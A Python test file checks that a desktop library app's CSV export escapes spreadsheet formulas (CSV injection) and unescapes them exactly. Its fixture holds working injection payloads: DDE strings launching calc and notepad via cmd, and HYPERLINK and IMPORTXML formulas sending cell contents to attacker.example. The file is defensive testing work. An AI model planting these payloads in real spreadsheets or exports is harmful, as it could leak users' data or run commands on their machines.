"""CSV export never hands a spreadsheet a formula (CSV injection), and the escaping is exactly reversible."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reslib_desktop.cli import main
from reslib_desktop.export import escape_cell, unescape_cell
from reslib_desktop.export.spreadsheet import FORMULA_STARTS
from reslib_desktop.ingest.apply import apply_records
from reslib_desktop.ingest.record import AttachmentRecord, ResourceRecord
from reslib_desktop.library import Library, SearchQuery

# Payloads of the kinds published for Excel, LibreOffice and Google Sheets, one per field.
HOSTILE = ResourceRecord(
    uid="hostile",
    title='=HYPERLINK("http://attacker.example/?x="&A1,"Click for the report")',
    subtitle="+1+cmd|' /C calc'!A0",
    description="-2+3+cmd|' /C notepad'!A0",
    topics=["@SUM(1+1)*cmd|' /C calc'!A0", "Housing"],
    audiences=["\t=1+1"],
    attachments=[AttachmentRecord("=IMPORTXML(CONCAT(\"http://attacker.example/\", A2), \"//a\")", "https://example.org/a.pdf")],
    source_url="\r=1+1",
    language="en",
)
ORDINARY = ResourceRecord(
    uid="ordinary",
    title="- a list-like title",
    subtitle="-",
    description="-12.5",
    topics=["+44"],
    audiences=["'Tis the season"],
    source_url="https://example.org/ordinary",
)


@pytest.fixture
def exported(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, dict[str, str]]:
    """The two records above, exported by `reslib export`, read back as CSV rows by uid."""
    library_path, csv_path = tmp_path / "library.db", tmp_path / "export.csv"
    with Library.open(library_path, create=True) as library, library.engine.begin() as connection:
        apply_records(connection, [HOSTILE, ORDINARY], now=datetime(2030, 1, 1))
    assert main(["--db", str(library_path), "export", str(csv_path)]) == 0
    capsys.readouterr()
    with csv_path.open(encoding="utf-8-sig", newline="") as stream:
        return {row["uid"]: row for row in csv.DictReader(stream)}


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def test_no_exported_cell_starts_like_a_formula(exported: dict[str, dict[str, str]]) -> None:
    hostile = exported["hostile"]
    for column in ("title", "subtitle", "description", "topics", "audience", "attachment_labels", "source"):
        assert hostile[column].startswith("'"), (column, hostile[column])
        assert not _runs_as_formula(hostile[column])
    assert hostile["title"] == "'" + HOSTILE.title
    assert hostile["audience"] == "'\t=1+1"
    assert hostile["source"] == "'\r=1+1"


def test_ordinary_values_are_left_alone(exported: dict[str, dict[str, str]]) -> None:
    ordinary = exported["ordinary"]
    assert ordinary["subtitle"] == "-"  # a lone dash
    assert ordinary["description"] == "-12.5"  # a number, negative
    assert ordinary["title"] == "'- a list-like title"  # text after '-' may be a formula: escaped
    assert ordinary["topics"] == "+44"  # a number with its sign
    assert ordinary["audience"] == "'Tis the season"  # a quote of its own, before ordinary text
    assert ordinary["source"] == "https://example.org/ordinary"


def test_unescaping_the_export_gives_back_every_value(exported: dict[str, dict[str, str]]) -> None:
    hostile = exported["hostile"]
    assert unescape_cell(hostile["title"]) == HOSTILE.title
    assert unescape_cell(hostile["description"]) == HOSTILE.description
    assert unescape_cell(hostile["audience"]) == "\t=1+1"
    assert unescape_cell(exported["ordinary"]["title"]) == ORDINARY.title


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " "]), max_size=8))
def test_escaping_is_safe_and_exactly_reversible(value: str) -> None:
    cell = escape_cell(value)
    assert unescape_cell(cell) == value
    assert not _runs_as_formula(cell) or cell == "-" or cell.lstrip("+-").replace(".", "").isdigit()
    if not value.startswith(("'", *FORMULA_STARTS)):
        assert cell == value


def _with_source(csv_path: Path, uid: str, source: str) -> Path:
    """The exported file with one row's source replaced (as an admin would fix it before importing)."""
    with csv_path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    fixed = csv_path.with_name("fixed-" + csv_path.name)
    with fixed.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(rows[0]))
        writer.writeheader()
        for row in rows:
            writer.writerow({**row, "source": source} if row["uid"] == uid else row)
    return fixed


def test_export_then_import_gives_back_the_hostile_values(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], exported: dict[str, dict[str, str]]
) -> None:
    csv_path, target = tmp_path / "export.csv", tmp_path / "reimported.db"
    # The hostile record's source ("\r=1+1") is no web address: the importer refuses it, naming the row.
    assert main(["--db", str(target), "import", str(csv_path)]) == 1
    assert "export.csv" in capsys.readouterr().err
    if target.exists():  # nothing of the refused import was written
        with Library.open(target, read_only=True) as library:
            assert library.search(SearchQuery(), 0, 10).total == 0
    fixed = _with_source(csv_path, "hostile", "https://example.org/hostile")
    assert main(["--db", str(target), "import", str(fixed)]) == 0, capsys.readouterr().err
    with Library.open(target, read_only=True) as library:
        details = [library.resource(row.id) for row in library.search(SearchQuery(), 0, 10).rows]
    [detail] = [d for d in details if d is not None and d.uid == "hostile"]
    assert (detail.title, detail.subtitle, detail.description) == (HOSTILE.title, HOSTILE.subtitle, HOSTILE.description)
    assert sorted(detail.topics) == sorted(HOSTILE.topics)
    assert [a.label for a in detail.attachments] == [HOSTILE.attachments[0].label]
